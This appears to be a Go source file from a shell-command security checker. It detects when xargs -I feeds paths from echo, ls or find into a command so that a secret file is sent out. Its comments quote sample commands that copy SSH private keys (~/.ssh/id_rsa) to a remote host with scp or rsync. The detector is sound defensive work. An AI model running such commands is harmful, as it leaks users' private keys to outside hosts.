package patterns

import "strings"

// The paths a stage prints for xargs -I, sent by what it runs (fx67b,
// rt65 A3): `echo ~/.ssh/id_rsa | xargs -I% scp % h:` sends the key as
// `scp ~/.ssh/id_rsa h:` does, and so do `ls ~/.ssh/id_* | xargs -I{}
// scp {} h:` and `… | xargs -I% rsync % h:`. Where the stage feeding
// xargs prints words of its own (printedPaths: echo's and printf's
// arguments, ls's operands, find's starting points), each stands in the
// replace string's place and the word is judged a [secret] as written
// so; the replace string otherwise stays any item, as before. `ls
// dist/*.tar.gz | xargs -I{} scp {} deploy@host:/srv/` sends the
// project's files and is left alone.

// xargsItemSecret reports whether w, a word of a part xargs -I runs
// fed by a stage that prints paths the line names, is a [secret] with
// one of those paths in its replace string's place.
func xargsItemSecret(w Word, ctx *Context) bool {
	ph := placeholderIn(w)
	if ph == "" || ctx == nil || ctx.cmd == nil {
		return false
	}
	p := ctx.wordPart(&w)
	if p == nil || !runByXargsReplacing(p, ph) || !xargsFromStdin(p) {
		return false
	}
	q := xargsFeeder(p, ctx)
	if q == nil {
		return false
	}
	for i, f := range printedPaths(q) {
		if i >= maxXargsItems {
			break
		}
		if judgeSecretDirect(withItem(w, ph, f, ctx.Home), ctx).Certainly {
			return true
		}
	}
	return false
}

// placeholderIn returns the text of the first placeholder segment of w
// (find's or xargs' replace string, [placeholder]), or "".
func placeholderIn(w Word) string {
	for _, s := range w.Segs {
		if placeholder(s) {
			return s.Text
		}
	}
	return ""
}

// runByXargsReplacing reports whether part p is run by an xargs whose
// replace string is ph.
func runByXargsReplacing(p *Part, ph string) bool {
	for _, x := range p.Wrappers {
		if x.Name == "xargs" && xargsReplace(x) == ph {
			return true
		}
	}
	return false
}

// withItem returns w with each placeholder segment ph replaced by the
// segments of item, the word the feeding stage prints. A leading ~ of
// the item is expanded by the stage that prints it, so inside w (after
// `f=@`) it stands as the home's path when the home is known.
func withItem(w Word, ph string, item Word, home string) Word {
	if len(w.Segs) == 1 {
		return item // the item is the whole word
	}
	var segs []Seg
	for _, s := range w.Segs {
		if s.Kind != SegSubst || s.Text != ph {
			segs = append(segs, s)
			continue
		}
		for k, is := range item.Segs {
			if k == 0 && is.Kind == SegTilde && is.Text == "" && home != "" {
				segs = append(segs, Seg{Kind: SegLit, Text: strings.TrimSuffix(home, "/")})
				continue
			}
			segs = append(segs, is)
		}
	}
	return Word{Raw: strings.ReplaceAll(w.Raw, ph, item.Raw), Span: w.Span, Segs: segs}
}
